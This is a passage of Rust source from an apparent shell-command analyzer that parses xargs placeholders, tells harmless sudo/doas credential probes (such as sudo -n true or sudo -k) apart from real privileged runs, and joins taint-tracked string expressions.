/// xargs's replacement string (`-I{}`, `-I %`, `-i`, `--replace=R`), if it has one.
fn xargs_placeholder(words: &[Expr]) -> Option<String> {
    let texts: Vec<String> = words.iter().filter_map(|w| w.text().map(|t| t.into_owned())).collect();
    for (i, text) in texts.iter().enumerate().skip(1) {
        if text == "-I" {
            return texts.get(i + 1).cloned();
        }
        if let Some(rest) = text.strip_prefix("-I") {
            return Some(rest.to_string());
        }
        if text == "-i" || text == "--replace" {
            return Some("{}".into());
        }
        if let Some(rest) = text.strip_prefix("--replace=").or_else(|| text.strip_prefix("-i")) {
            return Some(rest.to_string());
        }
        if !text.starts_with('-') {
            break;
        }
    }
    None
}

/// The flag of an interpreter's call that is given its code (`python3 -c CODE`, `awk PROGRAM`),
/// so that its standard input is data.
pub const INLINE_CODE_FLAG: &str = "inline_code";

/// The flag of a `sudo` (`doas`, ...) call that runs nothing as root: no command, or one that
/// only reports who the user is.
pub const PROBE_FLAG: &str = "probe";

/// `sudo -n true`, `sudo -vn`, `sudo -n id -u`, `sudo -n cat <<< x`, `sudo -k`: whether the
/// credentials are cached is tested (never asking for a password: `-n`), or they are dropped;
/// nothing is done as root. A password given on standard input (`-S`) is authenticating.
fn is_privilege_probe(wrapper: &str, words: &[Expr], inner: &[Expr]) -> bool {
    if !matches!(wrapper, "sudo" | "doas" | "run0") {
        return false;
    }
    let options: Vec<String> = words[1..words.len() - inner.len()]
        .iter()
        .filter_map(|w| w.text().map(|t| t.into_owned()))
        .filter(|t| t.starts_with('-'))
        .collect();
    let has = |short: char, long: &str| {
        options.iter().any(|o| match o.strip_prefix("--") {
            Some(l) => l == long,
            None => o.contains(short),
        })
    };
    if inner.is_empty() && (has('k', "reset-timestamp") || has('K', "remove-timestamp")) {
        return true;
    }
    if !has('n', "non-interactive") || has('S', "stdin") || has('A', "askpass") {
        return false;
    }
    let Some(first) = inner.first() else {
        // `-s`, `-i` and `-e` without a command still open a root shell or edit as root.
        return !(has('s', "shell") || has('i', "login") || has('e', "edit"));
    };
    let Value::Str(program) = &first.value else {
        return false;
    };
    let operands = inner[1..]
        .iter()
        .filter(|w| !w.text().is_some_and(|t| t.starts_with('-')))
        .count();
    match program_name(program).as_str() {
        "true" | "false" | ":" | "id" | "whoami" | "groups" | "echo" | "printf" => true,
        // `cat` with no file copies its standard input.
        "cat" => operands == 0,
        _ => false,
    }
}

/// `before` with `after` added to its end (`x+=y`).
fn appended(before: &Expr, after: Expr) -> Expr {
    let taints = before.taints.union(after.taints);
    let trail = before.trail.clone().or(after.trail);
    let value = match (&before.value, &after.value) {
        (Value::Str(a) | Value::Formatted(a), Value::Str(b) | Value::Formatted(b)) => {
            let mut text = a.clone();
            let whole = words::push_bounded(&mut text, b);
            if whole && matches!((&before.value, &after.value), (Value::Str(_), Value::Str(_))) {
                Value::Str(text)
            } else {
                Value::Formatted(text)
            }
        }
        _ => Value::Other,
    };
    Expr { value, taints, trail }
}
